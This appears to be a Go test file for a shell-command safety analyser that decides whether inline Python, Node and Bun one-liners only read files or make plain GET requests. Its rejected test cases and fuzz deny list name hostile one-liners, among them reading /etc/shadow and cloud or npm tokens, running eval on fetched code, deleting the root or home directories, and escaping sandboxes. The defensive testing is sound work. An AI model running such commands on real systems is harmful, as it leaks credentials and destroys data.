package analysis

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/toolguard/toolguard/shell"
)

func TestInlineReads(t *testing.T) {
	for _, tc := range []struct {
		lang, code string
		reads      []string
		imports    []string
		ok         bool
	}{
		{"python", `import json;print(json.load(open('package.json'))['version'])`, []string{"package.json"}, []string{"json"}, true},
		{"python", "import sys\nprint(sys.version)", nil, []string{"sys"}, true},
		{"python", `import json; d = json.load(open("a.json", "rb")); print(sorted(d.keys()))`, []string{"a.json"}, []string{"json"}, true},
		{"python", `from importlib.metadata import version as v; print(v("requests"))`, nil, []string{"importlib.metadata"}, true},
		{"python", `import os.path as p; print(p.exists('x'), 1 == 1, 2 >= 1)`, nil, []string{"os.path"}, true},
		{"python", `print(open('f', encoding='utf-8').read().splitlines()[0])`, []string{"f"}, nil, true},
		{"python", `print({'a': 1}['a'], [1, 2][0:1])`, nil, nil, true},
		{"python", `print(''.join(map(chr, [104, 105])))`, nil, nil, true},
		{"python", `print(sorted(['bb', 'a'], key=len), list(reversed([1, 2])), ord('a'))`, nil, nil, true},
		// not proven
		{"python", `print(list(map(open, ['/etc/shadow'])))`, nil, nil, false}, // open passed as a value hides the file it opens
		{"python", `import os; print(list(map(os.system, ['id'])))`, nil, nil, false},
		{"python", `open('x', 'w').write('a')`, nil, nil, false},
		{"python", `open('x', mode='w')`, nil, nil, false},
		{"python", `open('x', 'a+')`, nil, nil, false},
		{"python", `open(name)`, nil, nil, false},
		{"python", `import os; os.system('id')`, nil, nil, false},
		{"python", `import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])`, nil, nil, false},
		{"python", `import sklearn`, nil, nil, false},
		{"python", `import sys; sys.path.append('x')`, nil, nil, false},
		{"python", `print(f'{__import__("os").system("id")}')`, nil, nil, false},
		{"python", `exec("print(1)")`, nil, nil, false},
		{"python", `print(json.__dict__)`, nil, nil, false},
		{"python", `for x in range(3): print(x)`, nil, nil, false},
		{"python", `x = 1; x += 1`, nil, nil, false},
		{"python", `d = {}; d['k'] = 1`, nil, nil, false},
		{"python", `import sys; sys.version = 'x'`, nil, nil, false},
		{"python", `print((1).__class__)`, nil, nil, false},
		{"python", `print('''a''')`, nil, nil, false},
		{"python", `print(getattr(1, 'real'))`, nil, nil, false},
		{"python", `print([k for k in range(3)])`, nil, nil, false},
		{"node", `console.log(require('./package.json').dependencies)`, []string{"./package.json"}, nil, true},
		{"node", `const fs = require('fs'); console.log(JSON.parse(fs.readFileSync('package.json', 'utf8')).version)`, []string{"package.json"}, nil, true},
		{"node", `console.log(require('fs').readFileSync('a.txt').toString())`, []string{"a.txt"}, nil, true},
		{"node", `process.version`, nil, nil, true},
		{"node", `require('child_process').execSync('id')`, nil, nil, false},
		{"node", `require('./index.js')`, nil, nil, false},
		{"node", "console.log(`${process.env.HOME}`)", nil, nil, false},
		{"node", `console.log(process.env.NPM_TOKEN)`, nil, nil, false},
		{"node", `[1].map(x => x)`, nil, nil, false},
		{"node", `fetch('https://registry.npmjs.org/react').then(r=>r.json()).then(j=>console.log(j['dist-tags']))`, nil, nil, true},
		{"node", `fetch("https://x.example/a").then((r) => r.text()).then(t => console.log(t.length))`, nil, nil, true},
		{"node", `fetch('https://x.example/a', {method: 'POST', body: 'k'})`, nil, nil, false},
		{"node", `fetch('file:///etc/passwd').then(r => r.text()).then(console.log)`, nil, nil, false},
		{"node", `fetch(u).then(r => r.json())`, nil, nil, false},
		{"node", `fetch('https://x.example/a').then(r => require('child_process').execSync(r))`, nil, nil, false},
		{"node", `fetch('https://x.example/a').then(r => r.text()).then(eval)`, nil, nil, false},
		{"node", `fetch('https://x.example/a').then(r => r.text()).then(t => eval(t))`, nil, nil, false},
		{"node", `fetch('https://x.example/a').then(r => r.text()).then(t => require('fs').writeFileSync('x', t))`, nil, nil, false},
		{"node", `fetch('https://x.example/a').then((a, b) => a)`, nil, nil, false},
		{"node", `fetch('https://x.example/a').then(r => { process.exit(1) })`, nil, nil, false},
		{"node", `const fs = require('fs'); fetch('https://x.example/a').then(fs => fs.rmSync('/'))`, nil, nil, false},
		{"node", `fetch('https://x.example/a').then(const => 1)`, nil, nil, false},
		{"node", `x => => 1`, nil, nil, false},
		{"node", `fetch('https://x.example/a', timeout = 5)`, nil, nil, false},
		{"node", `const fs = require('fs'); fs.writeFileSync('a', 'b')`, nil, nil, false},
		{"node", `({}).constructor.constructor('return process')()`, nil, nil, false},
		{"node", `globalThis.process.exit(1)`, nil, nil, false},
		{"node", `require('fs')['rmSync']('/home/u', {recursive: true})`, nil, nil, false},
		{"node", `const fs = require('fs'); fs['writeFileSync']('a', 'b')`, nil, nil, false},
		{"node", `require('fs').readFileSync('a', {flag: 'w'})`, nil, nil, false},
		{"node", `console.log(require('fs').readFileSync('a', 'utf8'))`, []string{"a"}, nil, true},
		{"python", `print({'a': print}['a']('x'))`, nil, nil, false},
		{"python", `print((1)(2))`, nil, nil, false},
		// a GET of a literal http(s) URL is proven (its URL is judged as a GET's)
		{"python", `import urllib.request; print(urllib.request.urlopen('https://pypi.org/pypi/x/json').status)`, nil, []string{"urllib.request"}, true},
		{"python", `from urllib.request import urlopen; print(urlopen('https://x.example/a', timeout=5).read())`, nil, []string{"urllib.request"}, true},
		{"python", `import urllib.request; urllib.request.urlopen('https://x.example/u', data=b'x')`, nil, nil, false},
		{"python", `import urllib.request; urllib.request.urlopen('https://x.example/u', b'x')`, nil, nil, false},
		{"python", `import urllib.request; print(urllib.request.urlopen('file:///etc/shadow').read())`, nil, nil, false},
		{"python", `import urllib.request; urllib.request.urlopen(u)`, nil, nil, false},
		{"python", `import urllib.request; urllib.request.urlopen(urllib.request.Request('https://x', method='POST'))`, nil, nil, false},
		{"python", `import urllib.request; urllib.request.urlretrieve('https://x.example/a', 'a')`, nil, nil, false},
		{"ruby", `puts 1`, nil, nil, false},
	} {
		reads, imports, ok := inlineReads(tc.lang, tc.code)
		if ok != tc.ok {
			t.Errorf("inlineReads(%s, %q) ok = %v, want %v", tc.lang, tc.code, ok, tc.ok)
			continue
		}
		if !ok {
			continue
		}
		if diff := cmp.Diff(tc.reads, reads, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("inlineReads(%s, %q) reads (-want +got):\n%s", tc.lang, tc.code, diff)
		}
		if diff := cmp.Diff(tc.imports, imports, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("inlineReads(%s, %q) imports (-want +got):\n%s", tc.lang, tc.code, diff)
		}
	}
}

// FuzzInlineReads: any text is judged without a panic, and what a proof
// says the code reads is text of the code.
func FuzzInlineReads(f *testing.F) {
	f.Add("python", `import json;print(json.load(open('package.json'))['version'])`)
	f.Add("node", `const fs = require('fs'); console.log(fs.readFileSync("a", 'utf8'))`)
	f.Add("python", `print(open(r'x\'y', 'rb').read())`)
	f.Fuzz(func(t *testing.T, lang, code string) {
		reads, _, ok := inlineReads(lang, code)
		if !ok {
			return
		}
		for _, r := range reads {
			if !strings.Contains(strings.ReplaceAll(code, `\`, ""), strings.ReplaceAll(r, `\`, "")) {
				t.Fatalf("inlineReads(%q) reads %q, which the code does not hold", code, r)
			}
		}
		if strings.Contains(code, "#") || strings.Contains(code, "//") {
			return // a comment may name anything
		}
		for _, bad := range []string{"system", "exec", "eval", "write", "environ", "child_process", "__import__", "__class__", "__dict__", "__builtins__", "__globals__", "__subclasses__"} {
			if strings.Contains(code, bad) && !strings.Contains(code, "'"+bad) && !strings.Contains(code, `"`+bad) {
				t.Fatalf("inlineReads(%q) proven though it names %s outside a string", code, bad)
			}
		}
	})
}

func TestPlainInterpreterOptions(t *testing.T) {
	for _, tc := range []struct {
		lang string
		args []string
		want bool
	}{
		{"python", []string{"-c", "print(1)"}, true},
		{"python", []string{"-I", "-c", "print(1)", "-i"}, true},
		{"python", []string{"-Ic", "print(1)"}, true},
		{"python", []string{"-i", "-c", "print(1)"}, false},
		{"python", []string{"-ic", "print(1)"}, false},
		{"python", []string{"-m", "json.tool"}, false},
		{"python", []string{"--check-hash-based-pycs", "never", "-c", "1"}, false},
		{"node", []string{"-e", "1"}, true},
		{"node", []string{"--no-warnings", "-p", "1"}, true},
		{"node", []string{"-i", "-e", "1"}, false},
		{"node", []string{"-r", "./x.js", "-e", "1"}, false},
		{"node", []string{"--env-file=.env", "-e", "1"}, false},
		{"node", []string{"--import=./x.mjs", "-e", "1"}, false},
	} {
		var words []shell.Word
		for _, a := range tc.args {
			words = append(words, shell.Word{Value: a, Known: true})
		}
		if got := plainInterpreterOptions(tc.lang, words); got != tc.want {
			t.Errorf("plainInterpreterOptions(%s, %q) = %v, want %v", tc.lang, tc.args, got, tc.want)
		}
	}
}

// TestBunOneLiners: bun -e/-p code is proven read as node's is, only when
// the code option comes first and no bunfig.toml (in the working
// directory or the home) could preload other code.
func TestBunOneLiners(t *testing.T) {
	none := mapFiles{}
	for _, tc := range []struct {
		name    string
		command string
		files   mapFiles
		want    bool
	}{
		{"version", `bun -e 'console.log(Bun.version)'`, none, true},
		{"print", `bun -p 'Bun.revision'`, none, true},
		{"reads package.json", `bun --print 'JSON.parse(require("fs").readFileSync("package.json","utf8")).version'`, none, true},
		{"spawns", `bun -e 'require("child_process").execSync("id")'`, none, false},
		{"Bun.spawn", `bun -e 'Bun.spawn(["id"])'`, none, false},
		{"preload first", `bun --preload ./x.ts -e 'console.log(1)'`, none, false},
		{"cwd first", `bun --cwd=/tmp/other -e 'console.log(1)'`, none, false},
		{"BUN_OPTIONS", `BUN_OPTIONS=--preload=./x.ts bun -e 'console.log(1)'`, none, false},
		{"bunfig in the project", `bun -e 'console.log(Bun.version)'`, mapFiles{"/w/bunfig.toml": `preload = ["./x.ts"]`}, false},
		{"bunfig in the home", `bun -e 'console.log(Bun.version)'`, mapFiles{"/h/.bunfig.toml": `preload = ["./x.ts"]`}, false},
		{"bunfig in the home's .config", `bun -e 'console.log(Bun.version)'`, mapFiles{"/h/.config/.bunfig.toml": ``}, false},
		{"a script file", `bun run x.ts`, none, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, err := shell.Parse(tc.command, shell.Options{})
			if err != nil {
				t.Fatal(err)
			}
			a := &Analysis{ctx: Context{Files: tc.files, Home: "/h", Cwd: "/w", Workspace: "/w", Budget: shell.NewBudget(0)}}
			if _, _, got := a.provenReads(s.Commands[0], "/w"); got != tc.want {
				t.Errorf("provenReads(%s) = %v, want %v", tc.command, got, tc.want)
			}
		})
	}
	t.Run("without files", func(t *testing.T) {
		s, _ := shell.Parse(`bun -e 'console.log(Bun.version)'`, shell.Options{})
		a := &Analysis{ctx: Context{Home: "/h", Cwd: "/w", Workspace: "/w", Budget: shell.NewBudget(0)}}
		if _, _, got := a.provenReads(s.Commands[0], "/w"); got {
			t.Errorf("proven without a way to look for bunfig.toml")
		}
	})
}

// TestInlineGets: the URLs a proven one-liner fetches are the literals it
// GETs, for python's urlopen and node's fetch alike.
func TestInlineGets(t *testing.T) {
	for _, tc := range []struct {
		lang, code string
		gets       []string
	}{
		{"python", `from urllib.request import urlopen; print(urlopen('https://pypi.org/pypi/x/json', timeout=5).read())`, []string{"https://pypi.org/pypi/x/json"}},
		{"node", `fetch('https://registry.npmjs.org/react').then(r=>r.json()).then(j=>console.log(j['dist-tags']))`, []string{"https://registry.npmjs.org/react"}},
		{"node", `fetch('http://localhost:8080/health').then((r) => console.log(r.status))`, []string{"http://localhost:8080/health"}},
		{"node", `console.log(process.version)`, nil},
	} {
		p, _, ok := inlineProof(tc.lang, tc.code)
		if !ok {
			t.Errorf("inlineProof(%s, %q) not proven", tc.lang, tc.code)
			continue
		}
		if diff := cmp.Diff(tc.gets, p.gets, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("inlineProof(%s, %q) gets (-want +got):\n%s", tc.lang, tc.code, diff)
		}
	}
}
